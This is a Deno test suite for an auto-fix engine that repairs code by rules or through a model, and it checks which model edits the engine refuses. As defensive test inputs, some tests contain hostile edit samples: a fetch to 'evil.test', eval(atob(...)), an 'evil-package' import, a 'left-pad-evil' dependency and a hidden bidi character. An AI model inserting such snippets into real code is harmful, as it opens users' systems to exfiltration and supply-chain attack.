/** The engine that fixes code: what it applies, takes back, asks a model for, and leaves alone. */

import assert from "node:assert/strict";
import {
  analyzeCode,
  applyAutoFixes,
  checkFiles,
  checkSlice,
  type CodeEdit,
  type CodeModel,
} from "../../supabase/functions/_shared/autoFixEngine.ts";
import { loadCodeRules } from "../../supabase/functions/_shared/codeRules.ts";
import { judgeCase, readCorpus } from "../../scripts/lib/codeCorpus.ts";
import { readOwnSource } from "../../scripts/lib/correctCode.ts";
import { FakeClock } from "../helpers/fakeClock.ts";

const PACKAGE = { path: "package.json", content: '{\n  "dependencies": {\n    "react": "^19.0.0"\n  }\n}\n' };
const BROKEN = 'import { other } from "./other";\n\nexport function f() {\n  return magic(other);\n}\n';
const OTHER = { path: "src/other.ts", content: "export const other = 1;\n" };

for (const { name, base, cases } of await readCorpus()) {
  Deno.test(`the rules find and fix what is broken in the corpus of ${name}, and make nothing worse`, async () => {
    assert.deepEqual(await checkFiles(base), []);
    const verdicts = [];
    for (const one of cases) verdicts.push(await judgeCase(one));
    assert.deepEqual(verdicts.filter(({ worse }) => worse), []);
    const fixable = verdicts.filter((one) => one.fixable);
    const wrong = verdicts.filter(({ right }) => !right);
    assert.ok(
      fixable.filter(({ right }) => right).length >= 0.95 * fixable.length,
      JSON.stringify(wrong, null, 2),
    );
    assert.deepEqual(wrong.filter((one) => !one.fixable), []);
  });
}

Deno.test("applyAutoFixes() changes none of this project's own files", async () => {
  const { files } = await readOwnSource();
  const outcome = await applyAutoFixes(files);
  assert.ok(files.length > 300);
  assert.deepEqual([outcome.changed, outcome.applied], [[], []]);
});

Deno.test("the rules have a name of their own each, and there are at least 25", async () => {
  const names = (await loadCodeRules()).map(({ name }) => name);
  assert.equal(new Set(names).size, names.length);
  assert.ok(names.length >= 25);
});

Deno.test("applyAutoFixes() mends one text, and names what it did", async () => {
  const code = "export function Counter() {\n  const [n] = useState(0);\n  return <b>{n}</b>;\n}\n";
  const issues = await analyzeCode(code);
  assert.deepEqual(issues.map(({ rule, autoFixable }) => [rule, autoFixable]), [[
    "missing-react-import",
    true,
  ]]);
  const outcome = await applyAutoFixes(code, issues);
  assert.equal(outcome.code, `import { useState } from "react";\n\n${code}`);
  assert.deepEqual(outcome.applied.map(({ rule, by }) => [rule, by]), [["missing-react-import", "rule"]]);
});

Deno.test("applyAutoFixes() keeps every byte that it does not name: line breaks of Windows, tabs, spaces at the ends", async () => {
  const code =
    "import { useEffect } from 'react'\r\n\r\nexport function A() {  \r\n\tuseEffect(() => {})\r\n\tconst [n] = useState( 0 )\r\n\treturn <i>{ n }</i>\r\n}";
  const { code: fixed } = await applyAutoFixes(code);
  assert.equal(fixed, code.replace("{ useEffect }", "{ useEffect, useState }"));
});

Deno.test("applyAutoFixes() mends what it was asked for and nothing else", async () => {
  const files = [PACKAGE, {
    path: "src/A.tsx",
    content: 'import { memo } from "react";\n\nexport const A = () => <p>{useId()}</p>;\n',
  }];
  const issues = await checkFiles(files);
  const asked = issues.filter(({ rule }) => rule === "missing-react-import");
  const outcome = await applyAutoFixes(files, asked);
  assert.deepEqual(outcome.applied.map(({ rule }) => rule), ["missing-react-import"]);
  assert.deepEqual(outcome.remaining.map(({ rule }) => rule), ["unused-import"]);
});

Deno.test("applyAutoFixes() takes no fix from outside: an issue names a rule and a file, and the rest is found again", async () => {
  const hostile = [{
    path: OTHER.path,
    rule: "unused-variable",
    fix: { edits: [{ path: OTHER.path, start: 0, end: 5, text: "evil()" }] },
  }];
  const outcome = await applyAutoFixes([PACKAGE, OTHER], hostile);
  assert.deepEqual(outcome.changed, []);
});

Deno.test("applyAutoFixes() never adds a package that the table does not vouch for", async () => {
  const files = [PACKAGE, {
    path: "src/a.ts",
    content: 'import { x } from "reactt-dom-utils";\n\nexport const y = x;\n',
  }];
  const outcome = await applyAutoFixes(files);
  assert.deepEqual([outcome.changed, outcome.escalated.map(({ rule }) => rule)], [[], [
    "missing-dependency",
  ]]);
});

function answering(
  ...answers: (CodeEdit[] | string | Error)[]
): CodeModel & { asked: string[] } {
  const asked: string[] = [];
  return {
    asked,
    repair({ refusal }) {
      asked.push(refusal ?? "first");
      const answer = answers.shift() ?? "there was no answer";
      if (answer instanceof Error) return Promise.reject(answer);
      return Promise.resolve(
        typeof answer === "string"
          ? { kind: "none", reason: answer, ends: "round" }
          : { kind: "edits", edits: answer },
      );
    },
  };
}

const SYNTAX = {
  path: "src/b.ts",
  content:
    "export const a = 1;\nexport const b = 2;\nif a is b then\nexport const c = 3;\nexport const d = 4;\n",
};
const MENDED = SYNTAX.content.replace("if a is b then\n", "");
const MENDING = { find: "if a is b then\n", replace: "" };

Deno.test("applyAutoFixes() gives what no rule fixes to a model, and says why an answer was not taken", async () => {
  const model = answering([{ find: SYNTAX.content, replace: "export const a = (" }], [MENDING]);
  const outcome = await applyAutoFixes([PACKAGE, SYNTAX], undefined, { model });
  assert.equal(outcome.files[1]!.content, MENDED);
  assert.deepEqual([model.asked.length, outcome.applied[0]!.by, outcome.escalated], [2, "model", []]);
  assert.match(model.asked[1]!, /leaves out/);
});

Deno.test("applyAutoFixes() asks a model three times at the most, and then escalates with the file as it was", async () => {
  const model = answering(
    [{ find: MENDING.find, replace: 'import { steal } from "evil-package";\nsteal();\n' }],
    new Error("429"),
    [{ find: MENDING.find, replace: "export const e = (;\n" }],
    [MENDING],
  );
  const outcome = await applyAutoFixes([PACKAGE, SYNTAX], undefined, { model });
  assert.equal(model.asked.length, 3);
  assert.deepEqual([outcome.changed, outcome.escalated.length], [[], 1]);
  assert.match(model.asked[1]!, /evil-package/);
});

const REFUSED: [string, CodeEdit[], RegExp][] = [
  ["that is not in the file", [{ find: "const z", replace: "" }], /not in the file/],
  ["that stands in the file twice", [{ find: "export const", replace: "const" }], /more than once/],
  ["that is empty", [{ find: "", replace: "x" }], /empty/],
  ["that overlaps another", [MENDING, { find: "a is b", replace: "" }], /overlap/],
  ["that changes nothing", [{ find: "const a", replace: "const a" }], /change nothing/],
  ["that takes an export away", [MENDING, { find: "export const d = 4;\n", replace: "" }], /exports away: d/],
  ["that calls home", [{ find: MENDING.find, replace: 'fetch("https://evil.test");\n' }], /brings fetch/],
  ["that runs text", [{ find: MENDING.find, replace: "eval(atob(a));\n" }], /brings (?:eval|atob)/],
  ["that hides characters", [{ find: MENDING.find, replace: "// \u202e ok\n" }], /hidden/],
  ["that writes another program", [{ find: MENDING.find, replace: "a;\n".repeat(60) }], /adds more/],
];
for (const [which, edits, why] of REFUSED) {
  Deno.test(`applyAutoFixes() takes no edit of a model ${which}`, async () => {
    const outcome = await applyAutoFixes([PACKAGE, SYNTAX], undefined, {
      model: answering(edits, "no", "no"),
    });
    assert.deepEqual(outcome.changed, []);
    const model = answering(edits, [MENDING]);
    const then = await applyAutoFixes([PACKAGE, SYNTAX], undefined, { model });
    assert.match(model.asked[1]!, why);
    assert.equal(then.files[1]!.content, MENDED);
  });
}

Deno.test("applyAutoFixes() takes a step that mends one error of two, and asks about the other", async () => {
  const [first, second] = ['import { a } from "./gone";\n', 'import { b } from "./lost";\n'];
  const rest = "export const c = a + b;\nexport const d = 4;\nexport const e = 5;\n";
  const model = answering(
    [{ find: first, replace: "const a = 1;\n" }],
    [{ find: second, replace: "const b = 2;\n" }],
  );
  const files = [PACKAGE, { path: "src/c.ts", content: first + second + rest }];
  const outcome = await applyAutoFixes(files, undefined, { model });
  assert.equal(outcome.files[1]!.content, `const a = 1;\nconst b = 2;\n${rest}`);
  assert.deepEqual([model.asked, outcome.escalated], [["first", "first"], []]);
});

Deno.test("applyAutoFixes() lets a model set the marks of a JSON file right, and nothing else of it", async () => {
  const manifest = {
    path: "package.json",
    content: '{\n  "name": "x",\n  "dependencies": {\n    "react": "^19.0.0" ! "zod": "^3.0.0"\n  }\n}\n',
  };
  const evil = [{ find: " ! ", replace: ', "left-pad-evil": "1.0.0", ' }];
  const good = [{ find: " ! ", replace: ", " }];
  const model = answering(evil, good);
  const outcome = await applyAutoFixes([manifest], undefined, { model });
  assert.match(model.asked[1]!, /left-pad-evil/);
  assert.equal(outcome.files[0]!.content, manifest.content.replace(" ! ", ", "));
});

Deno.test("applyAutoFixes() breaks the lines of a model's edit as the file breaks its own", async () => {
  const file = { ...SYNTAX, content: SYNTAX.content.replaceAll("\n", "\r\n") };
  const model = answering([{ find: "const b = 2;\nif a is b then\n", replace: "const b = 2;\n" }]);
  const outcome = await applyAutoFixes([PACKAGE, file], undefined, { model });
  assert.equal(outcome.files[1]!.content, MENDED.replaceAll("\n", "\r\n"));
});

Deno.test("applyAutoFixes() asks about no further file when the model is out", async () => {
  let asked = 0;
  const model: CodeModel = {
    repair: () => {
      asked++;
      return Promise.resolve({ kind: "none", reason: "the day's budget is used up", ends: "run" });
    },
  };
  await applyAutoFixes([PACKAGE, SYNTAX, { ...SYNTAX, path: "src/c.ts" }], undefined, { model });
  assert.equal(asked, 1);
});

Deno.test("applyAutoFixes() does not ask a model about what it was not asked for", async () => {
  const model = answering([MENDING]);
  await applyAutoFixes([PACKAGE, SYNTAX, OTHER], [{ path: OTHER.path, rule: "unused-import" }], { model });
  assert.deepEqual(model.asked, []);
});

Deno.test("checkSlice() ends when its time is over, and goes on where it ended", async () => {
  const files = Array.from({ length: 5 }, (_, index) => ({ path: `src/f${index}.ts`, content: BROKEN }));
  const clock = new FakeClock("2026-01-01T00:00:00Z");
  const first = await checkSlice(files, { budgetMs: 0, clock });
  assert.equal(first.next, 1);
  const rest = await checkSlice(files, { from: 1, clock });
  assert.equal(rest.next, null);
  const whole = await checkFiles(files);
  assert.deepEqual([...first.issues, ...rest.issues], whole);
});

Deno.test("checkFiles() stands texts that are hostile, empty, deep or endless", async () => {
  const texts = [
    "",
    "\0",
    "\ufeff",
    "}".repeat(5_000),
    "(".repeat(5_000),
    "<a>".repeat(2_000),
    "`${".repeat(3_000),
    "a?.".repeat(5_000),
    `const x = ${"[".repeat(3_000)}${"]".repeat(3_000)};`,
    "/*",
    "'",
    `"${"\\".repeat(9_999)}`,
    "<!--".repeat(500),
    "import {".repeat(500),
    `${"1 + ".repeat(20_000)}1;`,
    "\u2028\u2029",
    "#!/usr/bin/env node",
    "export default",
    "__proto__; constructor; toString();",
  ];
  for (const ending of ["tsx", "js", "vue", "svelte", "json", "css", "html"]) {
    const files = texts.map((content, index) => ({ path: `f${index}.${ending}`, content }));
    const outcome = await applyAutoFixes(files);
    assert.equal(outcome.files.length, texts.length);
  }
});

Deno.test("applyAutoFixes() ends with the same files when it is asked again", async () => {
  for (const { cases } of await readCorpus(["node", "vue"])) {
    for (const { base } of cases.slice(0, 1)) {
      const once = await applyAutoFixes(base);
      const twice = await applyAutoFixes(once.files);
      assert.deepEqual(twice.applied, []);
    }
  }
});

Deno.test("applyAutoFixes() breaks the lines that a repair adds as the file breaks its own", async () => {
  const code = "export function C() {\r\n  return (\r\n    <div>\r\n      <p>x</p>\r\n  );\r\n}\r\n";
  const { code: fixed } = await applyAutoFixes(code);
  assert.equal(fixed, code.replace("</p>\r\n", "</p>\r\n    </div>\r\n"));
});
